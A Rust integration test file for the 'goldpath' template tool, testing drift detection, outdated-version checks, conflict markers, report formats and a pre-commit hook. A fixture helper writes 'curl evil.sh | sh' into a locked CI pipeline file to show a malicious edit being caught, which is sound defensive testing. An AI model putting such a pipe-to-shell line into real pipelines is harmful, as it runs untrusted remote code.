//! `goldpath check`, `goldpath diff` and `goldpath hooks install` on real repos.

use crate::harness::{assert_json_schema, edit_and_commit, git, read, write, Workspace};
use crate::upgrade::{svc_bundle, svc_project, svc_project_of};
use std::fs;
use std::path::{Path, PathBuf};

/// A project made from the newest version (2.0.0), committed.
fn up_to_date(s: &Workspace) -> PathBuf {
    svc_project_of(s, &svc_bundle(s), None)
}

/// A project from 1.0.0 whose locked pipeline was edited and committed, with an upgrade to
/// 2.0.0 stopped on that conflict.
fn stopped_on_a_locked_conflict(s: &Workspace) -> PathBuf {
    let url = svc_bundle(s);
    let p = svc_project(s, &url);
    edit_and_commit(&p, |p| {
        fs::write(p.join("ci/pipeline.yml"), "steps:\n  - run: make\n").unwrap()
    });
    let out = s.goldpath(&p, &["upgrade", "--defaults", "--no-input"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    p
}

fn drift_pipeline(p: &Path) {
    fs::write(
        p.join("ci/pipeline.yml"),
        "steps:\n  - run: cargo test --locked\n  - run: curl evil.sh | sh\n",
    )
    .unwrap();
}

#[test]
fn a_clean_project_passes() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(
        out.stdout.starts_with("svc 2.0.0 (file://")
            && out.stdout.ends_with("): 9 files checked, ok\n"),
        "{}",
        out.stdout
    );
}

#[test]
fn an_outdated_project_fails_with_how_far_behind() {
    let s = Workspace::new();
    let url = svc_bundle(&s);
    let p = svc_project(&s, &url);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(
        out.stdout.contains("error: outdated: svc 2.0.0 is available; this project is on 1.0.0 (1 version behind, a major version: read its changelog first). Run `goldpath upgrade`."),
        "{}",
        out.stdout
    );
    // Outdated is not a failure when not asked for.
    let out = s.goldpath(&p, &["check", "--fail-on", "drift,conflict-markers"]);
    assert_eq!(out.code, Some(0), "{}", out.stdout);
    assert!(out.stdout.contains("note: outdated"), "{}", out.stdout);
}

#[test]
fn a_drifted_locked_file_fails_with_a_diff_and_a_fix() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    drift_pipeline(&p);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(1));
    let text = out.stdout;
    assert!(text.contains("error: drift: ci/pipeline.yml is owned by the golden path svc 2.0.0 (locked) and was changed by hand. Restore it with `goldpath diff ci/pipeline.yml | git apply -R`"), "{text}");
    assert!(
        text.contains("    --- a/ci/pipeline.yml\n    +++ b/ci/pipeline.yml\n")
            && text.contains("    +  - run: curl evil.sh | sh\n"),
        "{text}"
    );
    // The fix the message gives works.
    let diff = s.goldpath(&p, &["diff", "ci/pipeline.yml"]);
    assert!(diff.is_success());
    let patch = p.join("fix.patch");
    fs::write(&patch, &diff.stdout).unwrap();
    git(&p, &["apply", "-R", "fix.patch"]);
    fs::remove_file(&patch).unwrap();
    assert_eq!(s.goldpath(&p, &["check"]).code, Some(0));
}

#[test]
fn a_deleted_locked_file_is_drift() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    fs::remove_file(p.join("ci/pipeline.yml")).unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.stdout.contains(
            "ci/pipeline.yml is owned by the golden path svc 2.0.0 (locked) and was deleted."
        ),
        "{}",
        out.stdout
    );
}

#[test]
fn customised_merge_files_are_reported_not_failed() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    fs::write(p.join("chart/values.yaml"), "replicaCount: 9\n").unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(0));
    assert!(
        out.stdout
            .contains("note: customised (merged on upgrade, your changes kept): chart/values.yaml"),
        "{}",
        out.stdout
    );
    let out = s.goldpath(&p, &["check", "--fail-on", "customised"]);
    assert_eq!(out.code, Some(1));
    // Seed files are the team's: never reported.
    fs::write(p.join("src/main.rs"), "fn main() {}\n").unwrap();
    assert!(!s.goldpath(&p, &["check"]).stdout.contains("src/main.rs"));
}

#[test]
fn leftover_conflict_markers_fail() {
    let s = Workspace::new();
    let p = stopped_on_a_locked_conflict(&s);
    let out = s.goldpath(&p, &["check", "--fail-on", "conflict-markers"]);
    assert_eq!(out.code, Some(1));
    let text = out.stdout;
    assert!(
        text.contains("error: an upgrade to 2.0.0 stopped on conflicts"),
        "{text}"
    );
    assert!(
        text.contains("error: conflict markers: ci/pipeline.yml still holds conflict markers."),
        "{text}"
    );
}

#[test]
fn a_corrupt_answers_file_is_an_error_naming_it() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    let text = read(p.join(".goldpath.toml")).replace("version = \"2.0.0\"", "version = \"two\"");
    fs::write(p.join(".goldpath.toml"), text).unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(2));
    let err = out.stderr;
    assert!(
        err.starts_with("error: ")
            && err.contains(".goldpath.toml:6: ")
            && err.contains("git checkout -- "),
        "{err}"
    );
    fs::remove_file(p.join(".goldpath.toml")).unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(2));
    assert!(
        out.stderr
            .contains(".goldpath.toml: not found: this folder was not made by `goldpath new`")
            && out.stderr.contains("`goldpath adopt BUNDLE`"),
        "{}",
        out.stderr
    );
}

#[test]
fn an_unreachable_source_is_a_clear_error() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    fs::remove_dir_all(s.path("templates")).unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(2));
    let err = out.stderr;
    assert!(
        err.contains("cannot read the versions of svc from file://")
            && err.contains("hint: check the network"),
        "{err}"
    );
}

#[test]
fn json_matches_its_documented_schema() {
    let s = Workspace::new();
    let url = svc_bundle(&s);
    let p = svc_project(&s, &url);
    drift_pipeline(&p);
    fs::write(p.join("chart/values.yaml"), "replicaCount: 9\n").unwrap();
    let out = s.goldpath(&p, &["check", "--format", "json"]);
    assert_eq!(out.code, Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout_bytes).unwrap();
    assert_json_schema("check-report.schema.json", &report);
    assert_eq!(report["outdated"]["behind"], 1);
    assert_eq!(report["drift"][0]["path"], "ci/pipeline.yml");
    assert_eq!(report["customised"][0], "chart/values.yaml");
    assert_eq!(
        report["findings"],
        serde_json::json!(["outdated", "drift", "customised"])
    );
    assert_eq!(report["failed"], true);
    // Deterministic: the same bytes every run.
    assert_eq!(
        s.goldpath(&p, &["check", "--format", "json"]).stdout,
        out.stdout
    );
}

#[test]
fn github_format_annotates_files() {
    let s = Workspace::new();
    let url = svc_bundle(&s);
    let p = svc_project(&s, &url);
    drift_pipeline(&p);
    let out = s.goldpath(&p, &["check", "--format", "github"]);
    assert_eq!(out.code, Some(1));
    let lines: Vec<String> = out.stdout.lines().map(str::to_string).collect();
    assert!(
        lines[0].starts_with(
            "::error file=.goldpath.toml,title=goldpath%3A outdated::svc 2.0.0 is available"
        ),
        "{lines:#?}"
    );
    assert!(lines[1].starts_with("::error file=ci/pipeline.yml,title=goldpath%3A locked file drifted::ci/pipeline.yml is owned"), "{lines:#?}");
    assert!(
        lines[1].contains("%0A%0A--- a/ci/pipeline.yml%0A+++ b/ci/pipeline.yml%0A"),
        "{lines:#?}"
    );
    assert_eq!(lines.len(), 3, "{lines:#?}");
}

#[test]
fn junit_parses_back_with_one_failure_per_problem() {
    let s = Workspace::new();
    let url = svc_bundle(&s);
    let p = svc_project(&s, &url);
    drift_pipeline(&p);
    let out = s.goldpath(&p, &["check", "--format", "junit"]);
    assert_eq!(out.code, Some(1));
    let xml = out.stdout;
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let suites = doc.root_element();
    assert_eq!(suites.tag_name().name(), "testsuites");
    assert_eq!(suites.attribute("failures"), Some("2"));
    let failures: Vec<(String, String)> = doc
        .descendants()
        .filter(|n| n.has_tag_name("failure"))
        .map(|f| {
            (
                f.parent().unwrap().attribute("name").unwrap().to_string(),
                f.attribute("type").unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        failures,
        [
            (
                "1.0.0 is the newest version of svc".to_string(),
                "outdated".to_string()
            ),
            ("ci/pipeline.yml".to_string(), "drift".to_string())
        ]
    );
    let diff = doc
        .descendants()
        .find(|n| n.has_tag_name("failure") && n.attribute("type") == Some("drift"))
        .unwrap()
        .text()
        .unwrap();
    assert!(diff.contains("+  - run: curl evil.sh | sh"), "{diff}");
}

#[test]
fn the_pre_commit_hook_refuses_drift() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    let out = s.goldpath(&p, &["hooks", "install"]);
    assert!(out.is_success(), "{}", out.stderr);
    let hook = p.join(".git/hooks/pre-commit");
    assert!(read(&hook).contains("goldpath check --staged --fail-on drift,conflict-markers"));
    drift_pipeline(&p);
    git(&p, &["add", "-A"]);
    let bin_dir = Path::new(env!("CARGO_BIN_EXE_goldpath")).parent().unwrap();
    let path = format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap());
    let commit = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=Dev",
            "-c",
            "user.email=d@example.com",
            "commit",
            "-qm",
            "sneaky",
        ])
        .current_dir(&p)
        .env("PATH", path)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(!commit.status.success(), "the hook must refuse the commit");
    // git sends a hook's output to stderr.
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&commit.stdout),
        String::from_utf8_lossy(&commit.stderr)
    );
    assert!(
        said.contains("ci/pipeline.yml is owned by the golden path"),
        "{said}"
    );
    // An existing hook that is not ours is not replaced without --force.
    fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    let out = s.goldpath(&p, &["hooks", "install"]);
    assert_eq!(out.code, Some(2));
    assert!(
        out.stderr
            .contains("already exists and was not written by goldpath"),
        "{}",
        out.stderr
    );
}

#[test]
fn diff_during_a_stopped_upgrade_compares_with_the_version_it_goes_to() {
    let s = Workspace::new();
    let p = stopped_on_a_locked_conflict(&s);
    // values.yaml was updated to 2.0.0 by the upgrade: no difference from what it goes to.
    let out = s.goldpath(&p, &["diff", "chart/values.yaml", "--exit-code"]);
    assert_eq!(out.code, Some(0), "{}", out.stdout);
    assert_eq!(out.stdout, "");
    // The conflicted locked file differs (it holds the markers).
    let out = s.goldpath(&p, &["diff", "ci/pipeline.yml", "--exit-code"]);
    assert_eq!(out.code, Some(1));
    assert!(out.stdout.contains("+<<<<<<<"), "{}", out.stdout);
}

/// A folder of one bundle, `tool`, whose locked `bin/deploy.sh` is executable; and a project
/// made from it, committed.
fn project_with_a_locked_script(s: &Workspace) -> PathBuf {
    let bundles = s.path("bundles");
    write(
        &bundles.join("tool"),
        &[
            (
                "bundle.toml",
                "[bundle]\nname = \"tool\"\nversion = \"1.0.0\"\ndescription = \"a script\"\n\n\
                 [files]\nlocked = [\"bin/**\"]\n",
            ),
            ("template/bin/deploy.sh", "#!/bin/sh\necho deploying\n"),
            ("template/README.md", "# tool\n"),
        ],
    );
    let script = bundles.join("tool/template/bin/deploy.sh");
    set_mode(&script, 0o755);
    let out = s.goldpath(
        s.root(),
        &[
            "new",
            "tool",
            "svc",
            "--from",
            &bundles.display().to_string(),
            "--no-input",
        ],
    );
    assert!(out.is_success(), "{}", out.stderr);
    let p = s.path("svc");
    assert_eq!(mode(&p.join("bin/deploy.sh")) & 0o111, 0o111);
    p
}

fn set_mode(path: &Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(path).unwrap().permissions().mode()
}

#[test]
fn a_locked_script_that_lost_its_executable_bit_is_drift_and_diff_restores_it() {
    let s = Workspace::new();
    let p = project_with_a_locked_script(&s);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(0), "{}", out.stdout);

    set_mode(&p.join("bin/deploy.sh"), 0o644);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(
        out.stdout.contains(
            "error: drift: bin/deploy.sh is owned by the golden path tool 1.0.0 (locked) and lost its executable bit."
        ),
        "{}",
        out.stdout
    );
    let json = s.goldpath(&p, &["check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&json.stdout_bytes).unwrap();
    assert_eq!(
        report["drift"],
        serde_json::json!([{
            "path": "bin/deploy.sh",
            "deleted": false,
            "diff": "diff --git a/bin/deploy.sh b/bin/deploy.sh\nold mode 100755\nnew mode 100644\n",
        }])
    );

    // The restore command the report gives puts the bit back, and nothing else.
    let diff = s.goldpath(&p, &["diff", "bin/deploy.sh"]);
    assert!(diff.is_success(), "{}", diff.stderr);
    let mut apply = std::process::Command::new("git")
        .args(["apply", "-R"])
        .current_dir(&p)
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    apply
        .stdin
        .take()
        .unwrap()
        .write_all(&diff.stdout_bytes)
        .unwrap();
    assert!(apply.wait().unwrap().success());
    assert_eq!(mode(&p.join("bin/deploy.sh")) & 0o111, 0o111);
    assert_eq!(
        fs::read_to_string(p.join("bin/deploy.sh")).unwrap(),
        "#!/bin/sh\necho deploying\n"
    );
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(0), "{}", out.stdout);

    // Made executable when the golden path's is not: drift too, said the other way round.
    set_mode(&p.join("README.md"), 0o755);
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(0), "README.md is not locked: {}", out.stdout);
    fs::write(
        s.path("bundles/tool/bundle.toml"),
        "[bundle]\nname = \"tool\"\nversion = \"1.0.0\"\ndescription = \"a script\"\n\n\
         [files]\nlocked = [\"bin/**\", \"README.md\"]\n",
    )
    .unwrap();
    let out = s.goldpath(&p, &["check"]);
    assert!(
        out.stdout.contains(
            "README.md is owned by the golden path tool 1.0.0 (locked) and was made executable."
        ),
        "{}",
        out.stdout
    );
}

/// A repository `mono` holding two projects from 1.0.0 of the svc bundle, `services/a` and
/// `services/b`, each made inside it by `goldpath new` (which commits it there), with a drifted
/// locked pipeline staged in `services/b` and an edited README staged in `services/a`.
fn two_staged_projects(s: &Workspace) -> PathBuf {
    let url = svc_bundle(s);
    let mono = s.path("mono");
    fs::create_dir_all(&mono).unwrap();
    git(&mono, &["init", "-q", "-b", "main"]);
    edit_and_commit(&mono, |mono| write(mono, &[("README.md", "# mono\n")]));
    for (svc, name) in [("services/a", "a"), ("services/b", "b")] {
        let set = format!("service_name={name}");
        s.command(
            &mono,
            &[
                "new",
                "svc",
                svc,
                "--from",
                &url,
                "--version",
                "1.0.0",
                "--set",
                &set,
                "--defaults",
                "--no-input",
            ],
        )
        .success();
    }
    write(&mono, &[("services/a/README.md", "# a, documented\n")]);
    drift_pipeline(&mono.join("services/b"));
    git(
        &mono,
        &["add", "services/a/README.md", "services/b/ci/pipeline.yml"],
    );
    mono
}

/// `check --staged --format json` over two projects is ONE document (it was two reports one
/// after another, which no JSON parser reads), valid against
/// docs/check-staged-report.schema.json, each report valid against check-report.schema.json.
#[test]
fn check_staged_json_over_two_projects_is_one_document() {
    let s = Workspace::new();
    let mono = two_staged_projects(&s);
    let out = s.goldpath(&mono, &["check", "--staged", "--format", "json"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    let document: serde_json::Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("not one JSON document ({e}):\n{}", out.stdout));
    assert_json_schema("check-staged-report.schema.json", &document);
    let projects = document["projects"].as_array().unwrap();
    let folders: Vec<&str> = projects
        .iter()
        .map(|p| p["folder"].as_str().unwrap())
        .collect();
    assert_eq!(folders, ["services/a", "services/b"]);
    assert_eq!(projects[0]["report"]["drift"], serde_json::json!([]));
    assert_eq!(projects[1]["report"]["drift"][0]["path"], "ci/pipeline.yml");
    assert_eq!(document["failed"], true);
    // Each report is the one `check --format json` gives for that project alone.
    let alone = s.goldpath(&mono.join("services/a"), &["check", "--format", "json"]);
    let alone: serde_json::Value = serde_json::from_str(&alone.stdout).unwrap();
    assert_eq!(projects[0]["report"], alone);

    // The text report heads each project with its folder from the root (no absolute path).
    let text = s.goldpath(&mono, &["check", "--staged"]);
    assert!(
        text.stdout.contains("services/a (staged):\n")
            && text.stdout.contains("services/b (staged):\n"),
        "{}",
        text.stdout
    );
    assert!(
        !text.stdout.contains(&mono.display().to_string()),
        "{}",
        text.stdout
    );

    // Nothing staged in a project: still one document, with no project in it.
    git(&mono, &["reset", "-q"]);
    let out = s.goldpath(&mono, &["check", "--staged", "--format", "json"]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let document: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_json_schema("check-staged-report.schema.json", &document);
    assert_eq!(document["projects"], serde_json::json!([]));
}

/// `check --staged --format junit` over two projects is one `<testsuites>` holding a
/// `<testsuite>` for each, named by its folder, the totals summed.
#[test]
fn check_staged_junit_over_two_projects_is_one_document_with_a_suite_each() {
    let s = Workspace::new();
    let mono = two_staged_projects(&s);
    let out = s.goldpath(&mono, &["check", "--staged", "--format", "junit"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    let doc = roxmltree::Document::parse(&out.stdout)
        .unwrap_or_else(|e| panic!("not one XML document ({e}):\n{}", out.stdout));
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "testsuites");
    let suites: Vec<(&str, &str, &str)> = root
        .children()
        .filter(|n| n.is_element())
        .map(|n| {
            assert_eq!(n.tag_name().name(), "testsuite");
            (
                n.attribute("name").unwrap(),
                n.attribute("tests").unwrap(),
                n.attribute("failures").unwrap(),
            )
        })
        .collect();
    // a: outdated, and its README customised (a note); b: outdated and drifted.
    assert_eq!(
        suites,
        [
            ("goldpath check: services/a: svc 1.0.0", "4", "1"),
            ("goldpath check: services/b: svc 1.0.0", "3", "2"),
        ]
    );
    assert_eq!(root.attribute("tests"), Some("7"));
    assert_eq!(root.attribute("failures"), Some("3"));
}

/// A committed file holding conflict markers is reported once, as conflict markers (what to act
/// on), in every format: not also as customised (a merge file) or as drift (a locked one).
#[test]
fn a_committed_file_with_conflict_markers_is_reported_once_as_conflict_markers() {
    let s = Workspace::new();
    let p = up_to_date(&s);
    edit_and_commit(&p, |p| {
        let markers = "<<<<<<< ours\nreplicaCount: 9\n=======\nreplicaCount: 2\n>>>>>>> theirs\n";
        fs::write(p.join("chart/values.yaml"), markers).unwrap();
        let pipeline = "<<<<<<< ours\nsteps: [make]\n=======\nsteps: [test]\n>>>>>>> theirs\n";
        fs::write(p.join("ci/pipeline.yml"), pipeline).unwrap();
    });
    let out = s.goldpath(&p, &["check"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    let lines: Vec<&str> = out.stdout.lines().skip(1).collect();
    assert_eq!(
        lines,
        [
            "error: conflict markers: chart/values.yaml still holds conflict markers. Resolve them, then run `goldpath upgrade --continue`.",
            "error: conflict markers: ci/pipeline.yml still holds conflict markers. Resolve them, then run `goldpath upgrade --continue`.",
        ],
        "{}",
        out.stdout
    );

    let out = s.goldpath(&p, &["check", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        report["conflict_markers"],
        serde_json::json!(["chart/values.yaml", "ci/pipeline.yml"])
    );
    assert_eq!(report["customised"], serde_json::json!([]));
    assert_eq!(report["drift"], serde_json::json!([]));
    assert_eq!(report["findings"], serde_json::json!(["conflict-markers"]));

    let out = s.goldpath(&p, &["check", "--format", "github"]);
    let titles: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|l| l.split("title=").nth(1)?.split("::").next())
        .collect();
    assert_eq!(
        titles,
        [
            "goldpath%3A conflict markers",
            "goldpath%3A conflict markers"
        ],
        "{}",
        out.stdout
    );

    let out = s.goldpath(&p, &["check", "--format", "junit"]);
    let doc = roxmltree::Document::parse(&out.stdout).unwrap();
    let cases: Vec<(&str, &str)> = doc
        .descendants()
        .filter(|n| n.has_tag_name("testcase"))
        .map(|n| {
            (
                n.attribute("classname").unwrap(),
                n.attribute("name").unwrap(),
            )
        })
        .collect();
    assert_eq!(
        cases,
        [
            ("goldpath.version", "2.0.0 is the newest version of svc"),
            ("goldpath.drift", "locked files match the golden path"),
            ("goldpath.conflict-markers", "chart/values.yaml"),
            ("goldpath.conflict-markers", "ci/pipeline.yml"),
        ]
    );
}

/// `check --staged --format github` over two projects names each annotation's file from the
/// repository's root, where GitHub looks for it (it named `ci/pipeline.yml`, in no project).
#[test]
fn check_staged_github_annotations_name_files_from_the_repository_root() {
    let s = Workspace::new();
    let mono = two_staged_projects(&s);
    let out = s.goldpath(&mono, &["check", "--staged", "--format", "github"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    let files: Vec<&str> = out
        .stdout
        .lines()
        .filter_map(|l| l.split(" file=").nth(1)?.split(',').next())
        .collect();
    assert_eq!(
        files,
        [
            "services/a/.goldpath.toml",
            "services/a/README.md",
            "services/b/.goldpath.toml",
            "services/b/ci/pipeline.yml",
        ],
        "{}",
        out.stdout
    );
    // A project of the monorepo checked alone is named from the root too, from its folder
    // or from the root with --dir: GitHub places annotations by the path from the checkout.
    let alone = s.goldpath(&mono.join("services/b"), &["check", "--format", "github"]);
    assert!(
        alone
            .stdout
            .contains("::error file=services/b/ci/pipeline.yml,"),
        "{}",
        alone.stdout
    );
    let from_root = s.goldpath(&mono, &["check", "services/b", "--format", "github"]);
    assert_eq!(from_root.stdout, alone.stdout);
}
